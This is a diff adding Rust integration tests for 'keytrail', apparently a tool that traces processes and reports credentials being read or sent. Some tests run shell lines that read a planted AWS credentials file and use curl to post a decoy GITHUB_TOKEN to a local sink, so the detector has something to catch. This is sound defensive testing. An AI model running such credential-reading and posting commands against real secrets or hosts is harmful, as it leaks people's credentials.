@@ -1,0 +1,374 @@
+//! The command line: plain words, right exit statuses, and what `trace`, `doctor`, `demo` and `watch` promise.
+
+use crate::{
+    agent::{Agent, Setup},
+    command::{act, sh},
+    events::{Ask as _, of_kind, parse_lines},
+    machine::{Scratch, keytrail, patience, turn, wait_for},
+    plant,
+    server::Sink,
+    trace,
+};
+use std::{collections::BTreeSet, fs, time::Instant};
+
+/// The signals of the mission.
+pub const SIGNALS: &[&str] = &[
+    "exec",
+    "fork",
+    "exit",
+    "file_open",
+    "file_read",
+    "connect",
+    "tcp_send",
+    "tls_write",
+];
+
+/// `keytrail watch` where no agent is: status 3, and where it looked.
+pub fn watch_without_an_agent() {
+    let scratch = Scratch::new();
+    let socket = scratch.join("none.sock");
+    let watch = || {
+        act(keytrail())
+            .arg("watch")
+            .arg("--address")
+            .arg(format!("unix:{}", socket.display()))
+            .run()
+    };
+    for left in [false, true] {
+        if left {
+            // A socket whose agent has died.
+            drop(std::os::unix::net::UnixListener::bind(&socket).unwrap());
+        }
+        let done = watch();
+        assert_eq!(done.code(), 3, "{}", done.stderr_text());
+        let words = done.plain_words();
+        assert!(words.contains(socket.to_str().unwrap()), "{words}");
+        assert!(
+            words.contains("keytrail agent"),
+            "what to do about it: {words}"
+        );
+        assert!(done.stdout.is_empty());
+    }
+}
+
+/// A second agent on the same socket: status 4; the first one goes on.
+pub fn second_agent() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let done = act(keytrail())
+        .arg("agent")
+        .arg("--listen")
+        .arg(agent.address())
+        .arg("--state-dir")
+        .arg(scratch.join("other-state"))
+        .run();
+    assert_eq!(done.code(), 4, "{}", done.stderr_text());
+    let words = done.plain_words();
+    assert!(words.contains(agent.socket().to_str().unwrap()), "{words}");
+    agent.sentinel();
+}
+
+/// The status of `trace` is that of the command, as a shell shows it.
+pub fn trace_exit_statuses() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let plain = scratch.join("plain");
+    fs::write(&plain, "no program").unwrap();
+    for (words, status) in [
+        (vec!["true"], 0),
+        (vec!["sh", "-c", "exit 7"], 7),
+        (vec!["sh", "-c", "kill -TERM $$"], 143),
+        (vec!["sh", "-c", "kill -KILL $$"], 137),
+        (vec!["/no/such/command"], 127),
+        (vec!["no-such-command-anywhere"], 127),
+        (vec![plain.to_str().unwrap()], 126),
+        (vec!["/usr"], 126),
+    ] {
+        let traced = trace::run(&scratch, trace::command(&scratch, &[]).args(&words));
+        let done = &traced.done;
+        assert_eq!(done.code(), status, "{words:?}: {}", done.stderr_text());
+        assert!(done.stdout.is_empty());
+        if status >= 126 && status < 128 {
+            let said = done.plain_words();
+            assert!(said.contains(words[0]), "{said}");
+        }
+        assert!(!done.stderr_text().contains("panicked"));
+    }
+}
+
+/// stdin, stdout and stderr of the command are its own.
+pub fn trace_leaves_the_streams_alone() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let mut bytes = plant::bytes(200_000);
+    bytes.extend_from_slice(b"hi\n");
+    let act = trace::command(&scratch, &[])
+        .arg("cat")
+        .stdin(bytes.clone());
+    let traced = trace::run(&scratch, act);
+    assert_eq!(traced.done.code(), 0, "{}", traced.done.stderr_text());
+    assert!(
+        traced.done.stdout == bytes,
+        "stdout is not what cat was given"
+    );
+
+    let act = trace::command(&scratch, &[])
+        .args(["sh", "-c", "echo out; echo err >&2"])
+        .env("GITHUB_TOKEN", plant::github().value);
+    let traced = trace::run(&scratch, act);
+    assert_eq!(traced.done.stdout_text(), "out\n");
+    assert!(traced.done.stderr_text().contains("err\n"));
+}
+
+/// What `trace` says of a command that uses credentials: the file is complete when it ends, the summary names what
+/// was met and where it went, and nobody else's processes are in it.
+pub fn trace_follows_descendants() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let token = plant::github();
+    let (planted, file) = plant::aws_credentials(&scratch.make("home"));
+    // Somebody else, meanwhile.
+    let other = sh("while :; do true & sleep 0.05; done")
+        .env("NPM_TOKEN", plant::npm().value)
+        .spawn();
+    let act = trace::command(&scratch, &[])
+        .args(["sh", "-c"])
+        .arg("(cat \"$2\" >/dev/null; sh -c 'curl -s -d t=$GITHUB_TOKEN http://127.0.0.1:$0/in' \"$1\"; :); exit 3")
+        .arg("sh")
+        .arg(sink.port.to_string())
+        .arg(&file)
+        .env("GITHUB_TOKEN", &token.value);
+    let traced = trace::run(&scratch, act);
+    let summary = traced.done.stderr_text();
+    assert_eq!(traced.done.code(), 3, "{summary}");
+    assert!(sink.has(&token.value));
+    let events = &traced.events;
+    let all = crate::events::list(events);
+
+    let read = of_kind(events, "credential_read");
+    assert_eq!(read.len(), 1, "{all}");
+    assert_eq!(Some(read[0].identifier()), planted.identifier.as_deref());
+    let observed: Vec<_> = of_kind(events, "credential_sent")
+        .into_iter()
+        .filter(|e| e.grade() == "observed")
+        .collect();
+    assert_eq!(observed.len(), 1, "{all}");
+    assert_eq!(
+        observed[0].peer(),
+        ("127.0.0.1", u32::from(sink.port)),
+        "{all}"
+    );
+    assert!(
+        !events
+            .iter()
+            .any(|e| e.in_tree(other.pid()) || e.env_name() == "NPM_TOKEN"),
+        "somebody else's process:\n{all}"
+    );
+    for word in [
+        planted.identifier.as_deref().unwrap(),
+        &format!("127.0.0.1:{}", sink.port),
+        "GITHUB_TOKEN",
+    ] {
+        assert!(
+            summary.contains(word),
+            "no {word} in the summary:\n{summary}"
+        );
+    }
+    for text in [&summary, &fs::read_to_string(&traced.file).unwrap()] {
+        assert!(!text.contains(&token.value[4..]) && !text.contains(&planted.value));
+    }
+}
+
+/// A command of a few milliseconds is seen whole.
+pub fn trace_of_a_short_command() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let act = trace::command(&scratch, &[])
+        .arg("true")
+        .env("GITHUB_TOKEN", plant::github().value);
+    let traced = trace::run(&scratch, act);
+    assert_eq!(traced.done.code(), 0);
+    let exposed = of_kind(&traced.events, "credential_exposed");
+    assert_eq!(exposed.len(), 1, "{}", crate::events::list(&traced.events));
+    assert!(exposed[0].executable().ends_with("/true"));
+}
+
+/// `keytrail watch -o json` gives the same events as the agent itself, and its filters filter.
+pub fn watch_shows_the_events() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let out = scratch.join("watch.jsonl");
+    let _watch = agent.watch("json", &out);
+    let mut only = agent
+        .client("watch")
+        .args(["-o", "json", "--kind", "sent"])
+        .spawn_into(&scratch.join("sent.jsonl"), &scratch.join("sent.stderr"));
+    // It has no sign of its own that it is subscribed.
+    std::thread::sleep(patience(1));
+    let sink = Sink::http();
+    let done = sh("curl -s -d x=$GITHUB_TOKEN http://127.0.0.1:$1/; :")
+        .arg(sink.port.to_string())
+        .env("GITHUB_TOKEN", plant::github().value)
+        .run()
+        .ok();
+    agent.expect("the send", done.pid, |e| {
+        e.is("credential_sent") && e.in_tree(done.pid)
+    });
+    agent.settle();
+    let last = agent.sentinel();
+    let id = |e: &crate::events::Event| e.id.as_ref().unwrap().sequence;
+    let shown = wait_for("the sentinel in the output", patience(5), || {
+        let text = fs::read_to_string(&out).unwrap();
+        text.ends_with('\n')
+            .then(|| parse_lines(&text))
+            .filter(|events| events.iter().any(|e| id(e) == id(&last)))
+    });
+    let first = id(&shown[0]);
+    let printed: Vec<_> = agent
+        .events()
+        .into_iter()
+        .filter(|e| !e.kind.starts_with("process_") && (first..=id(&last)).contains(&id(e)))
+        .collect();
+    let shown: Vec<_> = shown.into_iter().filter(|e| id(e) <= id(&last)).collect();
+    assert_eq!(shown, printed, "watch and agent tell different stories");
+    let sent = parse_lines(&fs::read_to_string(scratch.join("sent.jsonl")).unwrap());
+    assert!(sent.iter().any(|e| e.in_tree(done.pid)));
+    assert!(sent.iter().all(|e| e.is("credential_sent")));
+
+    // When the agent goes, watch goes, in plain words.
+    agent.stop();
+    let status = only.wait(patience(10), "keytrail watch after the agent's end");
+    assert!(status.code().is_some());
+    let words = fs::read_to_string(scratch.join("sent.stderr")).unwrap();
+    assert!(!words.contains("panicked"), "{words}");
+}
+
+/// `keytrail doctor`: every signal has a hook here, and what is refused is named with a reason.
+pub fn doctor_names_every_signal() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    for running in [false, true] {
+        let agent = running.then(|| Setup::new(&scratch).start());
+        let address = agent.as_ref().map_or_else(
+            || format!("unix:{}", scratch.join("none").display()).into(),
+            Agent::address,
+        );
+        let doctor = |format: &str| {
+            act(keytrail())
+                .arg("doctor")
+                .arg("--address")
+                .arg(&address)
+                .args(["-o", format])
+                .env("HOME", scratch.path())
+                .run()
+                .ok()
+        };
+        let json = doctor("json").stdout_text();
+        let status: keytrail_proto::v1::GetStatusResponse =
+            serde_json::from_str(&json).unwrap_or_else(|e| panic!("{e}: {json}"));
+        let named: BTreeSet<&str> = status.signals.iter().map(|s| s.signal.as_str()).collect();
+        for signal in SIGNALS {
+            assert!(named.contains(signal), "no {signal} in {named:?}");
+        }
+        for signal in &status.signals {
+            assert!(
+                !signal.hook.is_empty(),
+                "{} has no hook: {json}",
+                signal.signal
+            );
+            assert!(
+                matches!(signal.tier.as_str(), "base" | "fentry"),
+                "{signal:?}"
+            );
+            for refused in &signal.refused {
+                assert!(
+                    !refused.hook.is_empty() && !refused.reason.is_empty(),
+                    "{refused:?}"
+                );
+            }
+        }
+        assert!(
+            status
+                .libraries
+                .iter()
+                .any(|l| l.path.contains("libssl") && l.covered),
+            "{:?}",
+            status.libraries
+        );
+        for library in status.libraries.iter().filter(|l| !l.covered) {
+            assert!(!library.reason.is_empty(), "{library:?}");
+        }
+        let table = doctor("table").stdout_text();
+        for signal in SIGNALS {
+            assert!(table.contains(signal), "no {signal} in:\n{table}");
+        }
+    }
+}
+
+/// `keytrail demo`: a decoy credential is seen to leave over TLS within seconds.
+pub fn demo_shows_a_send() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let demo = |format: &str| {
+        let started = Instant::now();
+        let done = act(keytrail())
+            .args(["demo", "-o", format])
+            .env("HOME", scratch.path())
+            .run();
+        let took = started.elapsed();
+        assert_eq!(done.code(), 0, "{}", done.stderr_text());
+        assert!(took < patience(10), "the demo took {took:?}");
+        done
+    };
+    let events = parse_lines(&demo("json").stdout_text());
+    let all = crate::events::list(&events);
+    assert!(
+        events
+            .iter()
+            .any(|e| e.is("credential_sent") && e.grade() == "observed" && e.channel() == "tls"),
+        "{all}"
+    );
+    assert!(
+        events
+            .iter()
+            .any(|e| e.is("credential_read") || e.is("credential_exposed")),
+        "{all}"
+    );
+    let shown = demo("compact");
+    assert!(shown.stdout_text().contains("127.0.0.1") || shown.stdout_text().contains("localhost"));
+}
+
+/// `keytrail classify --jsonl` in a pipe: an answer a line, by id.
+pub fn classify_answers_line_by_line() {
+    let token = plant::github();
+    let lines = [
+        serde_json::json!({"id": "one", "text": format!("token={}", token.value)}),
+        serde_json::json!({"id": "two", "text": "nothing here"}),
+    ];
+    let input: String = lines.iter().map(|l| format!("{l}\n")).collect();
+    let done = act(keytrail())
+        .args(["classify", "--jsonl", "-"])
+        .stdin(input)
+        .run()
+        .ok();
+    let text = done.stdout_text();
+    let answers: Vec<serde_json::Value> = text
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(answers.len(), 2, "{text}");
+    assert_eq!(answers[0]["id"], "one");
+    assert_eq!(
+        answers[0]["credentials"][0]["kind"], "github-token",
+        "{text}"
+    );
+    assert_eq!(
+        answers[1]["credentials"].as_array().map(Vec::len),
+        Some(0),
+        "{text}"
+    );
+    assert!(!text.contains(&token.value[4..]), "{text}");
+}
